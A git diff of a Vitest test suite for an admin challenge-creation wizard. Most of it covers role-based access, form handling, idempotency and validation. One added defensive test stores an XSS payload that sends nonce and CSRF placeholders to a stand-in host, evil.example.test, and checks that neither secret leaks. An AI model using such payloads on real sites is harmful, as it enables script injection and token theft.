@@ -1,21 +1,21 @@
 import { beforeAll, describe, expect, test } from "vitest";
-import { prisma } from "~/services/database.server";
+import { prisma } from "~/platform/database.server";
+import { adminClient, type AdminClientCalls } from "../setup/admin-client";
 import { appUnder } from "../setup/app";
-import { consoleClient, type ConsoleClient } from "../setup/console-client";
 import { testDatabase } from "../setup/database";
-import { createStaff } from "../setup/people";
+import { createAdmins } from "../setup/people";
 
-/** The wizard through the console's doors: by everybody, as form and as JSON. */
+/** The challenge wizard through its handlers: by every role, as form and as JSON. */
 await testDatabase();
 const app = await appUnder("admin/v2");
 
-let staff: Awaited<ReturnType<typeof createStaff>>;
-let as: (who: keyof typeof staff.admins | null) => ConsoleClient;
+let fixture: Awaited<ReturnType<typeof createAdmins>>;
+let as: (who: keyof typeof fixture.admins | null) => AdminClientCalls;
 let created = "";
 
 beforeAll(async () => {
-  staff = await createStaff();
-  as = (who) => consoleClient(app, who && staff.admins[who]);
+  fixture = await createAdmins();
+  as = (who) => adminClient(app, who && fixture.admins[who]);
   created = await create();
 });
 
@@ -30,7 +30,7 @@ const ROLES = [
   [null, 401],
 ] as const;
 
-/** A quiz as the browser's form sends it. */
+/** A quiz as the form of a browser sends it. */
 const QUIZ = {
   intent: "create",
   challenge_type: "collect",
@@ -57,27 +57,27 @@ const QUIZ = {
 };
 
 describe("the wizard", () => {
-  test.each(ROLES)("as %s: new, create, edit, update answer %i", async (who, status) => {
+  test.each(ROLES)("as %s: new, create, edit, update respond with %i", async (who, status) => {
     const [newPath, editPath] = [
-      `/admin/v2/programs/${staff.demo}/challenges/new`,
+      `/admin/v2/programs/${fixture.demo}/challenges/new`,
       `/admin/v2/challenges/${created}/edit`,
     ];
     for (const path of [newPath, editPath]) expect((await as(who).json("GET", path)).status).toBe(status);
     const caption = `By ${who}`;
     expect((await as(who).json("POST", newPath, { challenge_type: "referral", caption })).status).toBe(status);
     expect((await as(who).json("PUT", editPath, { description: caption })).status).toBe(status);
-    expect(await prisma.challenge.count({ where: { programId: staff.demo, caption } })).toBe(status === 200 ? 1 : 0);
+    expect(await prisma.challenge.count({ where: { programId: fixture.demo, caption } })).toBe(status === 200 ? 1 : 0);
   });
 
-  test("creates from a form, and leads to the list", async () => {
-    const answer = await as("manager").form(`/admin/v2/programs/${staff.demo}/challenges/new`, {
+  test("creates from a form, and redirects to the list", async () => {
+    const response = await as("manager").form(`/admin/v2/programs/${fixture.demo}/challenges/new`, {
       ...QUIZ,
       caption: "From a form",
     });
-    expect(answer.status).toBe(303);
-    expect(answer.headers.get("location")).toBe(`/admin/v2/programs/${staff.demo}/challenges`);
+    expect(response.status).toBe(303);
+    expect(response.headers.get("location")).toBe(`/admin/v2/programs/${fixture.demo}/challenges`);
     const row = await prisma.challenge.findFirstOrThrow({
-      where: { programId: staff.demo, caption: "From a form" },
+      where: { programId: fixture.demo, caption: "From a form" },
       include: { questions: { include: { options: true } } },
     });
     expect(row).toMatchObject({
@@ -91,13 +91,13 @@ describe("the wizard", () => {
     ]);
   });
 
-  test("sent twice, by two presses or a retry, creates one challenge", async () => {
-    const path = `/admin/v2/programs/${staff.demo}/challenges/new`;
+  test("creates one challenge for a double click and a retry", async () => {
+    const path = `/admin/v2/programs/${fixture.demo}/challenges/new`;
     const form = { ...QUIZ, caption: "Pressed twice", idempotency_key: "opened-once" };
-    const answers = await Promise.all([1, 2].map(() => as("manager").form(path, form)));
-    answers.push(await as("manager").form(path, form));
-    expect(answers.map(({ status }) => status)).toEqual([303, 303, 303]);
-    expect(await prisma.challenge.count({ where: { programId: staff.demo, caption: "Pressed twice" } })).toBe(1);
+    const responses = await Promise.all([1, 2].map(() => as("manager").form(path, form)));
+    responses.push(await as("manager").form(path, form));
+    expect(responses.map(({ status }) => status)).toEqual([303, 303, 303]);
+    expect(await prisma.challenge.count({ where: { programId: fixture.demo, caption: "Pressed twice" } })).toBe(1);
     expect(
       (
         await as("manager").json("POST", path, {
@@ -109,7 +109,7 @@ describe("the wizard", () => {
     ).toBe(409);
   });
 
-  test("names each wrong field by its path, and gives back what was typed", async () => {
+  test("returns an error for each wrong field by its path, and the input", async () => {
     const wrong = {
       ...QUIZ,
       caption: "Typed with care",
@@ -117,19 +117,19 @@ describe("the wizard", () => {
       "questions[0][title]": "",
       "questions[0][options][0][is_correct]": "false",
     };
-    const answer = await as("manager").form(`/admin/v2/programs/${staff.demo}/challenges/new`, wrong);
-    expect(answer.status).toBe(422);
-    const html = await answer.text();
+    const response = await as("manager").form(`/admin/v2/programs/${fixture.demo}/challenges/new`, wrong);
+    expect(response.status).toBe(422);
+    const html = await response.text();
     expect(html).toContain("Please fix the following errors:");
     expect(html).toContain('value="Typed with care"');
-    const json = await as("manager").json("POST", `/admin/v2/programs/${staff.demo}/challenges/new`, {
+    const json = await as("manager").json("POST", `/admin/v2/programs/${fixture.demo}/challenges/new`, {
       challenge_type: "link",
       caption: "A",
     });
     expect(await json.json()).toMatchObject({ success: false, errors: [{ field: "link_url" }] });
   });
 
-  test("changes only what JSON sends, refuses nothing new and an old version", async () => {
+  test("changes only the fields in the JSON, and rejects an unchanged row and an old version", async () => {
     const id = await create();
     const path = `/admin/v2/challenges/${id}/edit`;
     const { challenge } = (await (await as("owner").json("GET", path)).json()) as { challenge: { updated_at: string } };
@@ -150,12 +150,31 @@ describe("the wizard", () => {
   });
 });
 
+describe("an operator's text", () => {
+  const FIXED_WORDS = ["csp-nonce-placeholder-24", "csrf-token-placeholder-of-43-characters-len"];
+
+  test("gets neither the page's nonce nor the reader's token, whatever words it contains", async () => {
+    const content = `<iframe srcdoc="<script nonce='${FIXED_WORDS[0]}'>alert(1)</script>"></iframe><img src="https://evil.example.test/?t=${FIXED_WORDS[1]}&n=${FIXED_WORDS[0]}">`;
+    const id = await create();
+    expect((await as("manager").json("PUT", `/admin/v2/challenges/${id}/edit`, { content })).status).toBe(200);
+    const page = await as("super").page(`/admin/v2/challenges/${id}/edit`);
+    const html = await page.text();
+    for (const word of FIXED_WORDS) expect(html).toContain(word);
+    const nonce = /'nonce-([^']+)'/.exec(page.headers.get("content-security-policy")!)![1]!;
+    const withoutAttributes = html.replaceAll(`nonce="${nonce}"`, "");
+    expect(withoutAttributes.length).toBeLessThan(html.length);
+    expect(withoutAttributes).not.toContain(nonce);
+    expect(html.split(fixture.admins.super.csrf)).toHaveLength(html.split('name="authenticity_token"').length + 1); // one more in the meta tag
+    for (const script of html.match(/<script[^>]*>/g)!) expect(script).toContain(`nonce="${nonce}"`);
+  });
+});
+
 async function create(): Promise<string> {
-  const answer = await as("owner").json("POST", `/admin/v2/programs/${staff.demo}/challenges/new`, {
+  const response = await as("owner").json("POST", `/admin/v2/programs/${fixture.demo}/challenges/new`, {
     challenge_type: "link",
     caption: "A link",
     link_url: "https://shop.example.test/",
     published: true,
   });
-  return ((await answer.json()) as { data: { id: string } }).data.id;
+  return ((await response.json()) as { data: { id: string } }).data.id;
 }
